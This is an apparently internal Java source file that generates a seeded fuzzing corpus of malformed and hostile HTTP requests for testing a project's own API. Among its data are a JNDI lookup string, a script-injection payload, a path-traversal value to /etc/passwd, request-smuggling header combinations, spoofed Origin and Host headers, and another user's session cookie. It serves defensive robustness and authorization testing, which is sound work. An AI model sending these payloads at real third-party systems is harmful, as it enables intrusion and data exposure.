package dev.internvillage.web;

import dev.internvillage.web.Probe.Header;
import java.io.ByteArrayOutputStream;
import java.lang.reflect.ParameterizedType;
import java.lang.reflect.Type;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.jspecify.annotations.Nullable;

/**
 * Generates requests for the API's routes from a seed: the same seed gives the same corpus (only the
 * ids of the fixtures differ from run to run). Each route gets a baseline request and many variations
 * of it, each changing one thing: a path variable, the method, the query, a header, the body's
 * syntax, encoding or one field's type and size; plus requests only a raw socket can send (odd
 * methods and versions, broken request lines and headers, bytes that are not UTF-8).
 */
final class ProbeCorpus {

    /** A route as the handler mapping knows it, with the JSON fields of its request body (null: none). */
    record Route(String pattern, String method, @Nullable List<Field> body) {}

    /** A field of a request body: its JSON name and its Java type. */
    record Field(String name, Type type) {}

    /**
     * Real ids to put into paths: by kind ({@code project}, {@code task}, {@code subtask}, {@code
     * run}) the owner's, and another user's of the same kinds.
     */
    record Fixtures(
            Map<String, String> own,
            Map<String, String> foreign,
            String foreignCookie,
            List<String> repoUrls,
            int port) {}

    private static final Pattern VARIABLE = Pattern.compile("\\{(\\w+)}");
    private static final String HUNDRED_KB = "a".repeat(100 * 1024);
    private static final List<String> METHODS =
            List.of("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "get", "FOO");
    private static final List<String> CONTENT_TYPES = List.of(
            "*/*",
            "application/*",
            "*/*; charset=utf-8",
            "text/*",
            "text/plain",
            "application/x-www-form-urlencoded",
            "multipart/form-data",
            "multipart/form-data; boundary=xyz",
            "application/json; charset=utf-16",
            "application/json; charset=bogus",
            "application/json;;",
            "application/json; q",
            "garbage",
            "/",
            "application/xml",
            "application/json, text/plain",
            "application/merge-patch+json",
            "text/event-stream",
            "application/json; charset=\"");
    private static final List<String> ACCEPTS = List.of(
            "text/html",
            "application/xml",
            "*/",
            "garbage",
            ";;",
            "text/event-stream",
            "application/json;q=0",
            "image/png",
            "*/*;q=abc",
            "application/*",
            "text/html;q=0.9, */*;q=0.1");
    private static final List<String> QUERIES = List.of(
            "from_line=%zz",
            "limit=%",
            "limit=%ff",
            "limit=%C3%28",
            "limit=%E0%A4",
            "limit=0x10",
            "limit=%201",
            "limit=1.5",
            "limit=99999999999999999999",
            "limit=-1",
            "from_line=0&limit=0",
            "limit=",
            "limit",
            "=",
            "&&&",
            "a=%",
            "%=1",
            "%25=%25",
            "subscribe_logs=%E0%A4",
            "subscribe_logs=all,all,nope,%20",
            "limit=1&limit=2",
            "limit=%2B1",
            "limit=+1",
            "x=" + "b".repeat(6000),
            "from_line=1&limit=1000000");
    private static final List<String> WRONG_VALUES = List.of(
            "true",
            "false",
            "1",
            "-1",
            "0",
            "1.5",
            "1.0",
            "1e3",
            "\"1\"",
            "\"\"",
            "\" \"",
            "null",
            "{}",
            "[]",
            "[1]",
            "[\"a\"]",
            "[null]",
            "\"true\"",
            "99999999999999999999999",
            "-99999999999999999999999",
            "1e400",
            "-0",
            "\"" + HUNDRED_KB + "\"",
            "\"\\u0000\"",
            "\"\\ud800\"",
            "\"\\u00fc\\ud83d\\udc4d\"",
            "\"" + "x".repeat(20_001) + "\"",
            "\"<script>alert(1)</script>\"",
            "\"%s%n%x\"",
            "\"${jndi:ldap://example.invalid/a}\"",
            "\"../../etc/passwd\"",
            "{\"nested\":{\"deeper\":[1,2,{}]}}");
    private static final List<String> MALFORMED_BODIES = List.of(
            "",
            " ",
            "{",
            "}",
            "{\"a\":",
            "[",
            "[]",
            "[1,2]",
            "\"s\"",
            "1",
            "true",
            "null",
            "{}",
            "{,}",
            "{\"a\":1,}",
            "{'a':1}",
            "{a:1}",
            "/*c*/{}",
            "{\"a\":NaN}",
            "{\"a\":Infinity}",
            "{\"a\":1e99999}",
            "{} {}",
            "{}x",
            "{\"a\":-}",
            "{\"a\":01}",
            "{\"a\":.5}",
            "{\"a\":+1}",
            "{\"a\":0x10}",
            "{\"a\":\"unterminated}",
            "{\"a\":\"bad escape \\q\"}",
            "{\"a\":\"tab\there\"}",
            "[".repeat(5000),
            "{\"a\":".repeat(2000) + "1" + "}".repeat(2000),
            "[" + "1,".repeat(50_000) + "1]");
    private static final List<String> REPO_URLS = List.of(
            "/",
            "relative/path",
            "/nonexistent/" + UUID.nameUUIDFromBytes(new byte[] {1}),
            "file:///nonexistent",
            "file://remote-host/x",
            "file:///%zz",
            "github.com/a/b",
            "github.com/../..",
            "https://github.com/a/b.git",
            "git@github.com:a/b.git",
            "https://example.com/r.git",
            "ssh://example.com/r",
            "/dev/null",
            "/etc",
            "\u0000",
            "~",
            " ");

    private final List<Route> routes;
    private final Fixtures fixtures;
    private final Random random;

    ProbeCorpus(List<Route> routes, Fixtures fixtures, long seed) {
        this.routes = routes;
        this.fixtures = fixtures;
        this.random = new Random(seed);
    }

    /**
     * For each route: its baseline, every method, content type and {@code Accept} value once (so
     * each is tried on every route whatever the seed), {@code perRoute} random variations, and the
     * raw requests.
     */
    List<Probe> generate(int perRoute) {
        List<Probe> probes = new ArrayList<>();
        for (Route route : routes) {
            probes.add(baseline(route));
            String target = fill(route, -1);
            for (String method : METHODS) {
                probes.add(Probe.http(route.pattern(), "method", method, target, jsonHeaders(), validBody(route)));
            }
            for (String type : CONTENT_TYPES) {
                probes.add(Probe.http(
                        route.pattern(),
                        "content type",
                        route.method(),
                        target,
                        List.of(new Header("Content-Type", type)),
                        validBody(route)));
            }
            for (String accept : ACCEPTS) {
                probes.add(Probe.http(
                        route.pattern(),
                        "accept",
                        route.method(),
                        target,
                        List.of(new Header("Content-Type", "application/json"), new Header("Accept", accept)),
                        validBody(route)));
            }
            for (int i = 0; i < perRoute; i++) {
                probes.add(variation(route));
            }
            for (String request : rawRequests(route)) {
                probes.add(Probe.raw(route.pattern(), "raw", firstWord(request), request));
            }
            probes.add(Probe.raw(route.pattern(), "raw bytes", route.method(), nonUtf8Path(route)));
        }
        return probes;
    }

    private Probe baseline(Route route) {
        return Probe.http(
                route.pattern(), "baseline", route.method(), fill(route, -1), jsonHeaders(), validBody(route));
    }

    private Probe variation(Route route) {
        int variables = countVariables(route.pattern());
        boolean hasBody = route.body() != null;
        // bodies are varied more often on routes that read one
        int choice = random.nextInt(hasBody ? 14 : 10);
        String target = fill(route, -1);
        String pattern = route.pattern();
        String method = route.method();
        return switch (choice) {
            case 0 ->
                variables == 0
                        ? withQuery(route, target)
                        : Probe.http(
                                pattern,
                                "path variable",
                                method,
                                fill(route, random.nextInt(variables)),
                                jsonHeaders(),
                                validBody(route));
            case 1 -> Probe.http(pattern, "method", pick(METHODS), target, jsonHeaders(), validBody(route));
            case 2 -> withQuery(route, target);
            case 3 ->
                Probe.http(
                        pattern,
                        "content type",
                        method,
                        target,
                        List.of(new Header("Content-Type", pick(CONTENT_TYPES))),
                        validBody(route));
            case 4 ->
                Probe.http(
                        pattern,
                        "accept",
                        method,
                        target,
                        List.of(new Header("Content-Type", "application/json"), new Header("Accept", pick(ACCEPTS))),
                        validBody(route));
            case 5 -> Probe.http(pattern, "header", method, target, oddHeaders(), validBody(route));
            case 6, 10 -> Probe.http(pattern, "body syntax", method, target, jsonHeaders(), malformedBody());
            case 7, 11 -> Probe.http(pattern, "body encoding", method, target, jsonHeaders(), badlyEncodedBody(route));
            case 8, 12, 13 ->
                hasBody
                        ? Probe.http(pattern, "field", method, target, jsonHeaders(), fieldVariation(route))
                        : Probe.http(
                                pattern, "body on a route without one", method, target, jsonHeaders(), malformedBody());
            default ->
                Probe.http(
                        pattern,
                        "everything odd",
                        pick(METHODS),
                        fill(route, variables == 0 ? -1 : random.nextInt(variables)) + "?" + pick(QUERIES),
                        List.of(new Header("Content-Type", pick(CONTENT_TYPES)), new Header("Accept", pick(ACCEPTS))),
                        hasBody && random.nextBoolean() ? fieldVariation(route) : malformedBody());
        };
    }

    private Probe withQuery(Route route, String target) {
        return Probe.http(
                route.pattern(),
                "query",
                route.method(),
                target + "?" + pick(QUERIES),
                jsonHeaders(),
                validBody(route));
    }

    private static List<Header> jsonHeaders() {
        return List.of(new Header("Content-Type", "application/json"));
    }

    private List<Header> oddHeaders() {
        List<Header> headers = new ArrayList<>(jsonHeaders());
        headers.add(
                switch (random.nextInt(14)) {
                    case 0 -> new Header("Cookie", "iv_session=garbage");
                    case 1 -> new Header("Cookie", "iv_session=");
                    case 2 -> new Header("Cookie", "iv_session=" + "A".repeat(4000));
                    case 3 -> new Header("Cookie", fixtures.foreignCookie());
                    case 4 -> new Header("Origin", "https://evil.example");
                    case 5 -> new Header("Origin", "null");
                    case 6 -> new Header("Sec-Fetch-Site", random.nextBoolean() ? "cross-site" : "same-site");
                    case 7 -> new Header("Last-Event-ID", pick(List.of("abc", "-1", "99999999999999999999999", " ")));
                    case 8 -> new Header("Range", "bytes=garbage");
                    case 9 -> new Header("Accept-Encoding", "gzip;q=garbage");
                    case 10 -> new Header("X-Forwarded-Host", "evil.example");
                    case 11 -> new Header("Authorization", "Bearer garbage");
                    case 12 -> new Header("Content-Encoding", "gzip");
                    default -> new Header("Accept-Language", "zz;q=9, *;q=-1");
                });
        return headers;
    }

    /** The route's path with real ids, or with junk in variable number {@code junkAt}. */
    private String fill(Route route, int junkAt) {
        Matcher matcher = VARIABLE.matcher(route.pattern());
        StringBuilder out = new StringBuilder();
        int index = 0;
        while (matcher.find()) {
            String kind = kind(route.pattern(), matcher.start(), matcher.group(1));
            String known = fixtures.own().get(kind);
            String real = known != null ? known : randomUuid();
            String value = index == junkAt ? junkId(real, kind) : real;
            matcher.appendReplacement(out, Matcher.quoteReplacement(value));
            index++;
        }
        matcher.appendTail(out);
        return out.toString();
    }

    private String junkId(String real, String kind) {
        String known = fixtures.foreign().get(kind);
        String foreign = known != null ? known : randomUuid();
        String otherKind = fixtures.own().values().stream()
                .filter(id -> !id.equals(real))
                .findFirst()
                .orElse(real);
        return pick(List.of(
                "x",
                "%20",
                real + "%20",
                "%20" + real,
                real + "%09",
                real + "%0A",
                real + "%0D%0A",
                "+" + real,
                real.toUpperCase(Locale.ROOT),
                "0-0-0-0-0",
                real.replace("-", ""),
                real + "x",
                real.substring(1),
                "{" + real + "}",
                "%zz",
                "%",
                "%ff",
                "%C3%28",
                "..",
                "%2e%2e",
                "%2F",
                "a%2Fb",
                "%5C",
                "%00",
                real + ";x=1",
                "null",
                "-1",
                "1e3",
                "%7B%7D",
                randomUuid(),
                foreign,
                otherKind,
                "a".repeat(300),
                "%E2%80%AE" + real,
                "%C3%BC"));
    }

    /** What a path variable names: by its own name, else by the collection segment before it. */
    private static String kind(String pattern, int at, String name) {
        String lower = name.toLowerCase(Locale.ROOT);
        if (!lower.equals("id")) {
            return lower.endsWith("id") ? lower.substring(0, lower.length() - 2) : lower;
        }
        String before = pattern.substring(0, at);
        String[] segments = before.split("/");
        String collection = segments.length == 0 ? "" : segments[segments.length - 1];
        return collection.endsWith("s") ? collection.substring(0, collection.length() - 1) : collection;
    }

    private static int countVariables(String pattern) {
        return (int) VARIABLE.matcher(pattern).results().count();
    }

    private byte[] validBody(Route route) {
        if (route.body() == null) {
            return new byte[0];
        }
        StringBuilder json = new StringBuilder("{");
        for (Field field : route.body()) {
            if (json.length() > 1) {
                json.append(',');
            }
            json.append(quote(field.name())).append(':').append(validValue(field));
        }
        return utf8(json.append('}').toString());
    }

    private String validValue(Field field) {
        if (field.name().equals("repo_url")) {
            return quote(pick(fixtures.repoUrls()));
        }
        if (field.name().equals("runs")) {
            String run = fixtures.own().getOrDefault("run", randomUuid());
            return pick(List.of("[]", "[\"all\"]", "[" + quote(run) + "]", "[" + quote(run + "@1") + "]"));
        }
        Class<?> raw = rawType(field.type());
        if (raw == Integer.class || raw == int.class || raw == Long.class || raw == long.class) {
            return String.valueOf(random.nextInt(4));
        }
        if (raw == Boolean.class || raw == boolean.class) {
            return String.valueOf(random.nextBoolean());
        }
        if (List.class.isAssignableFrom(raw)) {
            return "[]";
        }
        return quote("Probe " + random.nextInt(1000));
    }

    /** The valid body with one thing changed: a field's value, a duplicate, a missing or an extra field. */
    private byte[] fieldVariation(Route route) {
        List<Field> fields = route.body();
        if (fields == null || fields.isEmpty()) {
            return malformedBody();
        }
        Field target = fields.get(random.nextInt(fields.size()));
        StringBuilder json = new StringBuilder("{");
        int how = random.nextInt(5);
        for (Field field : fields) {
            if (field == target && how == 2) {
                continue; // left out
            }
            if (json.length() > 1) {
                json.append(',');
            }
            String value = field != target
                    ? validValue(field)
                    : switch (how) {
                        case 0, 1 -> pick(WRONG_VALUES);
                        default -> validValue(field);
                    };
            if (field == target && field.name().equals("repo_url") && how == 1) {
                value = quote(pick(REPO_URLS));
            }
            json.append(quote(field.name())).append(':').append(value);
            if (field == target && how == 3) {
                json.append(',').append(quote(field.name())).append(':').append(pick(WRONG_VALUES));
            }
        }
        if (how == 4) {
            json.append(json.length() > 1 ? "," : "")
                    .append("\"unknown_field\":")
                    .append(pick(WRONG_VALUES));
        }
        return utf8(json.append('}').toString());
    }

    private byte[] malformedBody() {
        return utf8(pick(MALFORMED_BODIES));
    }

    private byte[] badlyEncodedBody(Route route) {
        byte[] valid = validBody(route).length == 0 ? utf8("{\"a\":\"b\"}") : validBody(route);
        String text = new String(valid, StandardCharsets.UTF_8);
        return switch (random.nextInt(6)) {
            case 0 -> concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, valid); // a byte order mark
            case 1 -> text.getBytes(StandardCharsets.UTF_16LE);
            case 2 -> concat(utf8("{\"a\":\""), new byte[] {(byte) 0xFF, (byte) 0xFE}, utf8("\"}"));
            case 3 -> concat(utf8("{\"title\":\""), new byte[] {(byte) 0xC0, (byte) 0xAF}, utf8("\"}")); // overlong
            case 4 -> concat(utf8("{\"title\":\"cut "), new byte[] {(byte) 0xE2, (byte) 0x82}, utf8("\"}"));
            default -> concat(valid, new byte[] {0});
        };
    }

    private List<String> rawRequests(Route route) {
        String target = fill(route, -1);
        String method = route.method();
        String close = "Host: localhost\r\nConnection: close\r\n";
        List<String> requests = new ArrayList<>(List.of(
                "CONNECT " + target + " HTTP/1.1\r\n" + close + "\r\n",
                "CONNECT 127.0.0.1:" + fixtures.port() + " HTTP/1.1\r\n" + close + "\r\n",
                method + " " + target + " HTTP/9.9\r\n" + close + "\r\n",
                method + " " + target + " HTTP/2.0\r\n" + close + "\r\n",
                method + " " + target + " HTTP/1.2\r\n" + close + "\r\n",
                method + " " + target + " HTTPS/1.1\r\n" + close + "\r\n",
                method + " " + target + " HTTP/1.0\r\n\r\n",
                method.toLowerCase(Locale.ROOT) + " " + target + " HTTP/1.1\r\n" + close + "\r\n",
                method + " " + target + " HTTP/1.1\r\nConnection: close\r\n\r\n",
                method + "  " + target + "  HTTP/1.1\r\n" + close + "\r\n",
                method + " http://evil.example" + target + " HTTP/1.1\r\n" + close + "\r\n",
                method + " " + target + " HTTP/1.1\r\nHost: rebind.example\r\nConnection: close\r\n\r\n",
                method + " " + target + " HTTP/1.1\r\n" + close + "Junk-Without-Colon\r\n\r\n",
                method + " " + target + " HTTP/1.1\r\n" + close + "X-Folded: a\r\n  b\r\n\r\n",
                method + " " + target + " HTTP/1.1\r\n" + close + "X-Nul: a\0b\r\n\r\n",
                method + " " + target + " HTTP/1.1\r\n" + close + "X-Big: " + "a".repeat(20_000) + "\r\n\r\n",
                method + " " + target + "?" + "q".repeat(10_000) + " HTTP/1.1\r\n" + close + "\r\n",
                method + " " + target + " HTTP/1.1\r\n" + close
                        + "Content-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 5\r\n\r\n{}",
                method + " " + target + " HTTP/1.1\r\n" + close
                        + "Content-Type: application/json\r\nContent-Length: -1\r\n\r\n{}",
                method + " " + target + " HTTP/1.1\r\n" + close
                        + "Content-Type: application/json\r\nContent-Length: abc\r\n\r\n{}",
                method + " " + target + " HTTP/1.1\r\n" + close
                        + "Content-Type: application/json\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n"
                        + "2\r\n{}\r\n0\r\n\r\n",
                method + " " + target + " HTTP/1.1\r\n" + close + "Transfer-Encoding: gzip\r\n\r\n",
                method + " " + target + " HTTP/1.1\r\n" + close
                        + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n",
                method + " " + target + " HTTP/1.1\r\n" + close + "Expect: something-else\r\n\r\n",
                "OPTIONS * HTTP/1.1\r\n" + close + "\r\n",
                method + " " + target + "#fragment HTTP/1.1\r\n" + close + "\r\n",
                method + " " + target + "?a=\"<>\\^`{|} HTTP/1.1\r\n" + close + "\r\n"));
        // a random half of them per route keeps the run short; every kind is still sent across the routes
        List<String> chosen = new ArrayList<>();
        for (String request : requests) {
            if (random.nextBoolean()) {
                chosen.add(request);
            }
        }
        return chosen;
    }

    private byte[] nonUtf8Path(Route route) {
        String target = fill(route, -1);
        return concat(
                utf8(route.method() + " " + target + "/"),
                new byte[] {(byte) 0xFF, (byte) 0xC3, (byte) 0x28},
                utf8("?q="),
                new byte[] {(byte) 0xE9},
                utf8(" HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"));
    }

    /** A UUID from the seed, so that a corpus is the same on every run. */
    private String randomUuid() {
        return new UUID(random.nextLong(), random.nextLong()).toString();
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private static String firstWord(String request) {
        int space = request.indexOf(' ');
        return space < 0 ? request : request.substring(0, space);
    }

    private static Class<?> rawType(Type type) {
        if (type instanceof Class<?> c) {
            return c;
        }
        if (type instanceof ParameterizedType p && p.getRawType() instanceof Class<?> c) {
            return c;
        }
        return Object.class;
    }

    static String quote(String value) {
        return dev.internvillage.testing.Api.quote(value);
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }
}
